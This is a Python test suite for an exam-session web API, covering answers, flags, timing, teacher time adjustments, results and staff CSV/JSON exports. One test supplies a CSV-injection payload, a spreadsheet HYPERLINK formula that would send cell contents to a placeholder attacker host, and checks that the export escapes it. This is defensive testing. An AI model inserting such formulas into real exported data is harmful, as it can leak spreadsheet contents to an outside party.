"""The session API end to end, in process, on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import json
import uuid
from concurrent.futures import ThreadPoolExecutor

from sqlalchemy import text

from examsync.store import sessions as store
from examsync.store.database import SYSTEM
from tests.conftest import Api, section_questions, teach


def first_questions(state: dict) -> list[dict]:
    return section_questions(state, 0)


def test_starting_again_returns_the_active_session(student: Api) -> None:
    test_id = student.test_id("mini-diagnostic")
    first = student.post("/sessions", {"test_id": test_id})
    again = student.post("/sessions", {"test_id": test_id})
    assert first.status_code == 201 and again.status_code == 200
    assert again.json()["id"] == first.json()["id"]


def test_answers_flags_and_tools_are_all_in_the_resume_state(student: Api) -> None:
    state = student.start()
    q1, q2 = section_questions(state)
    result = student.send(
        state["id"],
        student.op("navigate", question_id=q1["id"]),
        student.op("answer", question_id=q1["id"], answer="b"),
        student.op("flag", question_id=q2["id"]),
        student.op("eliminate", question_id=q1["id"], choice_id="c"),
        student.op("note", question_id=q2["id"], text="come back to this"),
        student.op("answer", question_id=q2["id"], answer=["b", "a"]),
    )
    assert [r["status"] for r in result["results"]] == ["applied"] * 6
    assert result["last_seq"] == 6

    section = student.resume(state["id"])["sections"][0]
    assert section["status"] == "in_progress"
    assert section["answers"] == {q1["id"]: "b", q2["id"]: ["a", "b"]}
    assert section["flagged"] == [q2["id"]]
    assert section["eliminated"] == {q1["id"]: ["c"]}
    assert section["notes"] == {q2["id"]: "come back to this"}
    assert set(section["visited"]) == {q1["id"]}
    assert student.resume(state["id"])["current_question_id"] == q1["id"]


def test_resume_state_carries_no_correct_answers(student: Api) -> None:
    state = student.start()
    text = json.dumps(state)
    assert "correct" not in text and "explanation" not in text and "numerator" not in text


def test_replaying_a_whole_batch_changes_nothing(student: Api) -> None:
    state = student.start()
    q1, q2 = section_questions(state)
    batch = [student.op("answer", question_id=q1["id"], answer="a"), student.op("flag", question_id=q2["id"])]
    first = student.send(state["id"], *batch)
    history_before = student.get(f"/sessions/{state['id']}/history").json()

    replay = student.send(state["id"], *batch)

    assert [r["status"] for r in replay["results"]] == ["duplicate", "duplicate"]
    assert [r["seq"] for r in replay["results"]] == [r["seq"] for r in first["results"]]
    assert replay["last_seq"] == first["last_seq"] and replay["version"] == first["version"]
    assert student.get(f"/sessions/{state['id']}/history").json() == history_before


def test_an_op_id_reused_for_another_op_is_rejected(student: Api) -> None:
    state = student.start()
    q1 = section_questions(state)[0]
    op = student.op("answer", question_id=q1["id"], answer="a")
    student.send(state["id"], op)
    result = student.send(state["id"], {**op, "answer": "b"})["results"][0]
    assert result["status"] == "rejected" and result["code"] == "op_id_reused"
    assert student.resume(state["id"])["sections"][0]["answers"][q1["id"]] == "a"


def test_a_bad_op_is_rejected_while_the_others_apply(student: Api) -> None:
    state = student.start()
    q1, q2 = section_questions(state)
    results = student.send(
        state["id"],
        student.op("answer", question_id=q1["id"], answer="zz"),
        student.op("answer", question_id=q2["id"], answer=["a"]),
        student.op("teleport"),
        student.op("flag", question_id="no-such-question"),
    )["results"]
    assert [(r["status"], r.get("code")) for r in results] == [
        ("rejected", "invalid_answer"), ("applied", None), ("rejected", "invalid_op"), ("rejected", "unknown_question"),
    ]
    history = student.get(f"/sessions/{state['id']}/history").json()
    assert [h["status"] for h in history] == ["rejected", "applied", "rejected", "rejected"]
    assert [h["seq"] for h in history] == [1, 2, 3, 4]


def test_another_students_session_is_not_found(student: Api, api: Api) -> None:
    state = student.start()
    q1 = section_questions(state)[0]
    other = api.signup()
    missing = f"/sessions/{uuid.uuid4()}"
    for path in (f"/sessions/{state['id']}", f"/sessions/{state['id']}/history", f"/sessions/{state['id']}/results"):
        response = other.get(path)
        assert response.status_code == 404
        assert response.json() == other.get(missing + path[len(f"/sessions/{state['id']}"):]).json()
    response = other.post(f"/sessions/{state['id']}/ops", {"ops": [other.op("answer", question_id=q1["id"], answer="a")]})
    assert response.status_code == 404 and response.json()["error"]["code"] == "not_found"
    assert other.get("/sessions").json() == []
    assert student.resume(state["id"])["sections"][0]["answers"] == {}


def test_an_expired_section_rejects_late_answers_and_shows_as_submitted(student: Api) -> None:
    state = student.start()
    q1, q2 = section_questions(state)
    student.send(state["id"], student.op("answer", question_id=q1["id"], answer="b"))
    student.clock.advance(601)

    late = student.send(state["id"], student.op("answer", question_id=q2["id"], answer=["a", "b"]))["results"][0]

    assert late["status"] == "rejected" and late["code"] == "time_expired"
    resumed = student.resume(state["id"])
    first, second = resumed["sections"]
    assert first["status"] == "submitted" and first["time_remaining_ms"] == 0
    assert first["answers"] == {q1["id"]: "b"}
    assert resumed["current_section_id"] == second["section_id"] and second["status"] == "not_started"
    kinds = [(h["kind"], h["status"], h["code"]) for h in student.get(f"/sessions/{state['id']}/history").json()]
    assert kinds == [("answer", "applied", None), ("section_expired", "applied", None), ("answer", "rejected", "time_expired")]


def test_results_and_sub_skill_performance(student: Api) -> None:
    state = student.start()
    q1, q2 = section_questions(state)
    student.send(
        state["id"],
        student.op("answer", question_id=q1["id"], answer="b"),
        student.op("answer", question_id=q2["id"], answer=["a"]),
        student.op("submit_section", section_id=state["sections"][0]["section_id"]),
    )
    q3, q4 = section_questions(state, 1)
    done = student.send(
        state["id"],
        student.op("answer", question_id=q3["id"], answer=" 12 "),
        student.op("answer", question_id=q4["id"], answer="Numerator"),
        student.op("complete"),
    )
    assert [r["status"] for r in done["results"]] == ["applied"] * 3

    results = student.get(f"/sessions/{state['id']}/results").json()
    assert results["status"] == "completed"
    assert (results["score"], results["max_score"]) == (3, 4)
    assert [(s["score"], s["max_score"]) for s in results["sections"]] == [(1, 2), (2, 2)]
    review = {q["id"]: q for s in results["sections"] for q in s["questions"]}
    assert review[q2["id"]]["correct_answer"] == ["a", "b"] and review[q2["id"]]["is_correct"] is False
    assert {s["sub_skill"]: (s["attempts"], s["correct"]) for s in results["by_sub_skill"]} == {
        "addition": (2, 2), "fractions": (2, 1),
    }
    performance = student.get("/me/performance").json()
    assert [(p["sub_skill"], p["attempts"], p["correct"], p["accuracy"]) for p in performance] == [
        ("fractions", 2, 1, 0.5), ("addition", 2, 2, 1.0),
    ]
    after = student.send(state["id"], student.op("flag", question_id=q3["id"]))["results"][0]
    assert after["code"] == "session_completed"


def test_results_of_an_open_section_hide_its_answers(student: Api) -> None:
    state = student.start()
    student.send(state["id"], student.op("submit_section", section_id=state["sections"][0]["section_id"]))
    results = student.get(f"/sessions/{state['id']}/results").json()
    assert "questions" in results["sections"][0]
    assert "questions" not in results["sections"][1]
    assert "numerator" not in json.dumps(results)


def test_the_later_change_in_the_students_time_wins_whatever_the_arrival_order(student: Api) -> None:
    state = student.start()
    q1 = section_questions(state)[0]
    now = student.clock()
    # The phone's clock runs 60 s fast, the laptop's is right. The student answered
    # "a" on the laptop, then "b" on the phone 10 s later; the phone's op arrives first.
    phone = {"op_id": str(uuid.uuid4()), "type": "answer", "client_time": now + 70_000, "question_id": q1["id"], "answer": "b"}
    laptop = {"op_id": str(uuid.uuid4()), "type": "answer", "client_time": now, "question_id": q1["id"], "answer": "a"}
    student.clock.advance(10)
    first = student.send(state["id"], phone, device_id="phone", sent_at=student.clock() + 60_000)
    student.clock.advance(5)
    second = student.send(state["id"], laptop, device_id="laptop", sent_at=student.clock())

    assert first["results"][0]["status"] == "applied"
    assert second["results"][0]["status"] == "superseded"
    assert student.resume(state["id"])["sections"][0]["answers"] == {q1["id"]: "b"}
    history = student.get(f"/sessions/{state['id']}/history").json()
    assert [(h["payload"]["answer"], h["status"]) for h in history] == [("b", "applied"), ("a", "superseded")]


def test_ops_of_one_batch_made_in_the_same_millisecond_take_effect_in_the_batch_order(student: Api) -> None:
    state = student.start()
    q1 = section_questions(state)[0]
    # The student unflagged, then flagged, in one millisecond; the op_ids alone would pick the unflag.
    unflag = {**student.op("unflag", question_id=q1["id"]), "op_id": "ffffffff-ffff-4fff-bfff-ffffffffffff"}
    flag = {**student.op("flag", question_id=q1["id"]), "op_id": "00000000-0000-4000-8000-000000000000"}
    assert unflag["client_time"] == flag["client_time"]

    result = student.send(state["id"], unflag, flag)

    assert [r["status"] for r in result["results"]] == ["applied", "applied"]
    assert student.resume(state["id"])["sections"][0]["flagged"] == [q1["id"]]
    history = student.get(f"/sessions/{state['id']}/history").json()
    assert [(h["kind"], h["payload"].get("batch_index", 0)) for h in history] == [("unflag", 0), ("flag", 1)]
    # Sent again, alone or in another order, they are the same ops.
    assert student.send(state["id"], flag)["results"][0]["status"] == "duplicate"
    assert [r["status"] for r in student.send(state["id"], flag, unflag)["results"]] == ["duplicate", "duplicate"]
    assert student.resume(state["id"])["sections"][0]["flagged"] == [q1["id"]]


def test_active_time_stops_while_no_client_is_there(student: Api) -> None:
    state = student.start("mini-practice")
    q = section_questions(state)[0]
    student.send(state["id"], student.op("navigate", question_id=q["id"]))
    student.clock.advance(10)
    student.send(state["id"], student.op("heartbeat"))
    student.clock.advance(3600)  # the tab was closed for an hour
    remaining = student.resume(state["id"])["sections"][0]["time_remaining_ms"]
    # 10 s credited, then at most one heartbeat interval (15 s) for the gap.
    assert remaining == 120_000 - 10_000 - 15_000


def test_practice_can_start_untimed_or_with_more_time(student: Api) -> None:
    untimed = student.start("mini-practice", untimed=True)
    assert untimed["sections"][0]["time_remaining_ms"] is None
    refused = student.post("/sessions", {"test_id": student.test_id("mini-diagnostic"), "untimed": True})
    assert refused.status_code == 422 and refused.json()["error"]["code"] == "invalid_time_option"
    refused = student.post("/sessions", {"test_id": student.test_id("mini-diagnostic"), "time_multiplier": 2})
    assert refused.status_code == 422 and refused.json()["error"]["code"] == "invalid_time_option"


def test_extended_time_multiplies_the_limit(api: Api) -> None:
    student = api.signup()
    state = student.start("mini-practice", time_multiplier=1.5)
    assert state["sections"][0]["time_limit_ms"] == 180_000


def test_a_teacher_adds_time_to_a_section_in_progress(student: Api, teacher: Api) -> None:
    teach(teacher, student, student.test_id("mini-diagnostic"))  # the student is in the teacher's class
    state = student.start()
    q1 = section_questions(state)[0]
    student.send(state["id"], student.op("navigate", question_id=q1["id"]))
    student.clock.advance(590)
    refused = student.put(f"/sessions/{state['id']}/time", {"extra_seconds": 300})
    assert refused.status_code == 403 and refused.json()["error"]["code"] == "forbidden"

    adjusted = teacher.put(f"/sessions/{state['id']}/time", {"extra_seconds": 300})

    assert adjusted.status_code == 200
    assert student.resume(state["id"])["sections"][0]["time_remaining_ms"] == 310_000
    student.clock.advance(60)
    ok = student.send(state["id"], student.op("answer", question_id=q1["id"], answer="a"))["results"][0]
    assert ok["status"] == "applied"
    assert student.get(f"/sessions/{state['id']}/history").json()[-2]["kind"] == "time_adjusted"


def test_a_teacher_gives_a_student_extra_time_on_every_session(student: Api, teacher: Api) -> None:
    teach(teacher, student, student.test_id("mini-diagnostic"))  # the student is in the teacher's class
    state = student.start()
    q1 = section_questions(state)[0]
    student.send(state["id"], student.op("navigate", question_id=q1["id"]))
    user_id = student.get("/me").json()["user_id"]
    response = teacher.put(f"/users/{user_id}/time", {"time_multiplier": 1.5})
    assert response.status_code == 200 and response.json()["sessions_updated"] == 1
    assert student.resume(state["id"])["sections"][0]["time_limit_ms"] == 900_000
    later = student.start("mini-practice")
    assert later["sections"][0]["time_limit_ms"] == 180_000


def test_a_completed_session_refuses_a_time_change_and_logs_nothing(student: Api, teacher: Api) -> None:
    teach(teacher, student, student.test_id("mini-diagnostic"))  # the student is in the teacher's class
    state = student.start()
    student.send(state["id"], student.op("complete"))

    refused = teacher.put(f"/sessions/{state['id']}/time", {"extra_seconds": 300})

    assert refused.status_code == 409 and refused.json()["error"]["code"] == "session_completed"
    assert student.get(f"/sessions/{state['id']}/history").json()[-1]["kind"] == "complete"


def test_a_time_change_for_a_student_leaves_their_completed_sessions_alone(student: Api, teacher: Api) -> None:
    teach(teacher, student, student.test_id("mini-practice"))  # the student is in the teacher's class
    teach(teacher, student, student.test_id("mini-diagnostic"))
    done = student.start("mini-practice")
    student.send(done["id"], student.op("complete"))
    ran_out = student.start()  # its first section runs out before the change arrives
    student.send(ran_out["id"], student.op("submit_section", section_id=ran_out["sections"][0]["section_id"]),
                 student.op("navigate", question_id=section_questions(ran_out, 1)[0]["id"]))
    student.clock.advance(301)
    user_id = student.get("/me").json()["user_id"]

    response = teacher.put(f"/users/{user_id}/time", {"time_multiplier": 1.5})

    assert response.status_code == 200 and response.json()["sessions_updated"] == 0
    assert student.get(f"/sessions/{done['id']}/history").json()[-1]["kind"] == "complete"
    assert student.get(f"/sessions/{ran_out['id']}/history").json()[-1]["kind"] == "section_expired"
    assert student.resume(ran_out["id"])["status"] == "completed"


def test_batch_limits_have_their_own_error_codes(student: Api) -> None:
    state = student.start()
    q3 = section_questions(state, 1)[0]
    too_many = student.post(f"/sessions/{state['id']}/ops", {"ops": [student.op("heartbeat") for _ in range(501)]})
    assert too_many.status_code == 413 and too_many.json()["error"]["code"] == "too_many_ops"
    huge = student.post(f"/sessions/{state['id']}/ops", {"ops": [student.op("note", question_id="x", text="a" * 2_000_000)]})
    assert huge.status_code == 413 and huge.json()["error"]["code"] == "body_too_large"
    student.send(state["id"], student.op("submit_section", section_id=state["sections"][0]["section_id"]))
    long_answer = student.send(state["id"], student.op("answer", question_id=q3["id"], answer="9" * 1001))["results"][0]
    assert long_answer["code"] == "answer_too_long"
    long_note = student.send(state["id"], student.op("note", question_id=q3["id"], text="n" * 2001))["results"][0]
    assert long_note["code"] == "note_too_long"


def test_errors_have_one_shape(api: Api, student: Api) -> None:
    cases = [
        (api.get("/sessions"), 401, "not_authenticated"),
        (api.client.get("/api/v1/sessions", headers={"Authorization": "Bearer nonsense"}), 401, "invalid_token"),
        (student.get("/nowhere"), 404, "not_found"),
        (student.client.delete("/api/v1/tests", headers=student.headers), 405, "method_not_allowed"),
        (student.post("/sessions", {"test": 1}), 422, "invalid_request"),
        (api.post("/auth/token", {"email": "nobody@example.org", "password": "whatever1"}), 401, "invalid_credentials"),
        (api.post("/auth/signup", {"email": "not-an-email", "password": "long enough"}), 422, "invalid_request"),
        (api.post("/auth/signup", {"email": "a@b.org", "password": "short"}), 422, "weak_password"),
        (student.post("/sessions", {"test_id": "nope"}), 404, "not_found"),
    ]
    for response, status, code in cases:
        assert response.status_code == status, response.text
        body = response.json()
        assert set(body) == {"error"} and body["error"]["code"] == code and body["error"]["message"]


def test_an_email_can_sign_up_once(api: Api) -> None:
    api.signup("twice@example.org")
    again = api.post("/auth/signup", {"email": "Twice@Example.org", "password": "another password"})
    assert again.status_code == 409 and again.json()["error"]["code"] == "email_taken"


def test_the_same_sign_up_sent_twice_at_once_creates_one_account(api: Api) -> None:
    # A retried sign-up can overlap the first attempt: one wins, the other is told the address is taken.
    body = {"email": "overlap@example.org", "password": "correct horse battery"}
    with ThreadPoolExecutor(4) as pool:
        answers = list(pool.map(lambda _: api.post("/auth/signup", body), range(4)))
    assert sorted(a.status_code for a in answers) == [201, 409, 409, 409]
    assert {a.json()["error"]["code"] for a in answers if a.status_code == 409} == {"email_taken"}


def test_dashboard_lists_progress(student: Api) -> None:
    state = student.start()
    q1, q2 = section_questions(state)
    student.send(state["id"], student.op("answer", question_id=q1["id"], answer="a"), student.op("flag", question_id=q2["id"]))
    [row] = student.get("/sessions").json()
    assert (row["answered"], row["total"], row["flagged"], row["status"], row["resumable"]) == (1, 4, 1, "active", True)
    assert row["time_remaining_ms"] == 600_000


def test_submitting_is_the_last_activity_the_session_list_shows_and_sorts_by(student: Api) -> None:
    diagnostic = student.start()
    student.send(diagnostic["id"], student.op("answer", question_id=section_questions(diagnostic)[0]["id"], answer="a"))
    student.clock.advance(60)
    practice = student.start("mini-practice")
    student.send(practice["id"], student.op("navigate", question_id=section_questions(practice)[0]["id"]))
    assert [row["id"] for row in student.get("/sessions").json()] == [practice["id"], diagnostic["id"]]

    student.clock.advance(60)
    student.send(diagnostic["id"], student.op("submit_section", section_id=diagnostic["sections"][0]["section_id"]))
    rows = student.get("/sessions").json()
    assert [row["id"] for row in rows] == [diagnostic["id"], practice["id"]]
    assert rows[0]["last_activity_at"] == student.clock()

    student.clock.advance(60)
    student.send(practice["id"], student.op("complete"))
    rows = student.get("/sessions").json()
    assert [(row["id"], row["status"]) for row in rows] == [(practice["id"], "completed"), (diagnostic["id"], "active")]
    assert rows[0]["last_activity_at"] == student.clock()


def test_the_sweep_submits_sections_whose_time_ran_out(student: Api) -> None:
    state = student.start()
    q1 = section_questions(state)[0]
    student.send(state["id"], student.op("navigate", question_id=q1["id"]))
    student.clock.advance(600)
    assert student.client.app.state.service.sweep_expired() == 1  # type: ignore[attr-defined]
    history = student.get(f"/sessions/{state['id']}/history").json()
    assert history[-1]["kind"] == "section_expired"


def test_the_sweep_looks_only_at_sessions_whose_time_has_come(student: Api) -> None:
    service = student.client.app.state.service  # type: ignore[attr-defined]

    def due(at_ms: int) -> list[str]:
        with service.db.transaction(SYSTEM, write=False) as connection:
            return store.sessions_due(connection, at_ms)

    timed = student.start()  # wall clock, 600 s for the first section
    idle = student.start("mini-practice")  # active time: its clock stops while no client is there
    student.clock.advance(599)
    assert due(service.clock()) == []
    student.clock.advance(1)
    assert due(service.clock()) == [timed["id"]]
    # Until its idle limit (a day by default) ends it.
    assert idle["id"] not in due(idle["server_time"] + 86_400_000 - 1)
    assert idle["id"] in due(idle["server_time"] + 86_400_000)
    assert service.sweep_expired() == 1
    assert due(service.clock()) == []


def test_the_sweep_reschedules_a_section_whose_due_time_was_never_recorded(student: Api) -> None:
    service = student.client.app.state.service  # type: ignore[attr-defined]
    state = student.start()
    with service.db.transaction(SYSTEM, write=True) as connection:  # as rows from before the due time existed
        connection.execute(text("UPDATE test_section_states SET due_at = 0"))
    with service.db.transaction(SYSTEM, write=False) as connection:
        assert store.sessions_due(connection, service.clock()) == [state["id"]]
    assert service.sweep_expired() == 0
    with service.db.transaction(SYSTEM, write=False) as connection:
        assert store.sessions_due(connection, service.clock()) == []
    assert student.resume(state["id"])["sections"][0]["status"] == "in_progress"


def test_staff_export_attempts_with_correctness_only_for_submitted_sections(student: Api, teacher: Api) -> None:
    teach(teacher, student, student.test_id("mini-diagnostic"))  # the student is in the teacher's class
    state = student.start()
    q1, q2 = section_questions(state)
    q3 = section_questions(state, 1)[0]
    student.send(
        state["id"],
        student.op("answer", question_id=q1["id"], answer="b"),
        student.op("submit_section", section_id=state["sections"][0]["section_id"]),
        student.op("answer", question_id=q3["id"], answer="12"),
    )
    assert student.get(f"/export?session_id={state['id']}").status_code == 403
    rows = teacher.get(f"/export?session_id={state['id']}").json()
    assert [(r["question_id"], r["is_correct"]) for r in rows] == [(q1["id"], True), (q3["id"], None)]
    csv_text = teacher.get(f"/export?test_id={state['test_id']}&format=csv").text
    assert csv_text.splitlines()[0].startswith("session_id,user_id,test_id,seq")
    assert len(csv_text.splitlines()) == 3


def test_the_csv_export_shows_formula_like_answers_as_text(student: Api, teacher: Api) -> None:
    teach(teacher, student, student.test_id("mini-diagnostic"))  # the student is in the teacher's class
    state = student.start()
    short_answer = section_questions(state, 1)[0]
    formula, number = '=HYPERLINK("http://attacker.example/?"&A1,"click")', "-3"
    for answer in (formula, "@SUM(A1:A9)", "\tx", number):
        student.send(state["id"], student.op("answer", question_id=short_answer["id"], answer=answer))

    rows = list(csv.DictReader(io.StringIO(teacher.get(f"/export?session_id={state['id']}&format=csv").text)))

    assert [r["answer"] for r in rows] == ["'" + formula, "'@SUM(A1:A9)", "'\tx", number]
    assert teacher.get(f"/export?session_id={state['id']}").json()[0]["answer"] == formula  # JSON is unchanged


def test_history_resumes_after_a_sequence_number(student: Api) -> None:
    state = student.start()
    q1, q2 = section_questions(state)
    student.send(state["id"], *(student.op("flag" if i % 2 else "unflag", question_id=q2["id"]) for i in range(5)))
    tail = student.get(f"/sessions/{state['id']}/history", params={"after_seq": 3}).json()
    assert [h["seq"] for h in tail] == [4, 5]
    assert all(h["client_time"] and h["server_time"] for h in tail)


def test_staff_read_a_students_performance_and_students_cannot(student: Api, teacher: Api, api: Api) -> None:
    teach(teacher, student, student.test_id("mini-diagnostic"))  # the student is in the teacher's class
    state = student.start()
    student.send(state["id"], student.op("complete"))
    user_id = student.get("/me").json()["user_id"]
    performance = teacher.get(f"/users/{user_id}/performance").json()
    assert sorted((p["sub_skill"], p["attempts"], p["correct"]) for p in performance) == [
        ("addition", 2, 0), ("fractions", 2, 0),
    ]
    other = api.signup()
    refused = other.get(f"/users/{user_id}/performance")
    assert refused.status_code == 404 and refused.json()["error"]["code"] == "not_found"


def test_health_readiness_and_the_served_api_description(api: Api) -> None:
    assert api.client.get("/healthz").json() == {"status": "ok"}
    ready = api.client.get("/readyz").json()
    assert ready["status"] == "ok" and ready["database"] in ("sqlite", "postgresql")
    spec = api.client.get("/api/v1/openapi.json").json()
    assert {"/api/v1/sessions/{session_id}/ops", "/api/v1/sessions/{session_id}", "/api/v1/auth/token"} <= set(spec["paths"])
    docs = api.client.get("/api/v1/docs")
    assert docs.status_code == 200 and "swagger-ui" in docs.text
    assert api.client.get("/api/v1/docs/assets/swagger-ui-bundle.js").status_code == 200


def test_every_response_carries_the_security_headers(api: Api) -> None:
    headers = api.client.get("/healthz").headers
    assert "script-src 'self'" in headers["content-security-policy"]
    assert "frame-ancestors 'none'" in headers["content-security-policy"]
    assert headers["x-content-type-options"] == "nosniff" and headers["referrer-policy"] == "no-referrer"


def test_a_later_section_is_begun_by_navigating_to_its_first_question_and_only_then_shows_its_questions(
    student: Api,
) -> None:
    state = student.start()
    first, second = state["sections"]
    assert first["status"] == "in_progress" and [q["id"] for q in first["questions"]] == [
        q["id"] for q in section_questions(state)]
    assert second["questions"] == [] and second["question_count"] == 2 and second["status"] == "not_started"
    student.send(state["id"], student.op("submit_section", section_id=first["section_id"]))
    waiting = student.resume(state["id"])["sections"][1]
    assert waiting["questions"] == [] and waiting["first_question_id"] == section_questions(state, 1)[0]["id"]
    student.send(state["id"], student.op("navigate", question_id=waiting["first_question_id"]))
    begun = student.resume(state["id"])["sections"][1]
    assert begun["status"] == "in_progress"
    assert [q["id"] for q in begun["questions"]] == [q["id"] for q in section_questions(state, 1)]
    assert student.resume(state["id"])["heartbeat_interval_ms"] == 15_000


def test_a_device_cannot_pass_its_ops_off_as_rescued_from_a_file(student: Api) -> None:
    state = student.start()
    q1 = section_questions(state)[0]
    op = {"op_id": str(uuid.uuid4()), "type": "answer", "client_time": student.clock(), "question_id": q1["id"], "answer": "a"}
    response = student.post(f"/sessions/{state['id']}/ops", json={"ops": [op], "device_id": "rescue:tablet"})
    assert response.status_code == 422 and response.json()["error"]["code"] == "invalid_request"
    assert student.get(f"/sessions/{state['id']}/history").json() == []
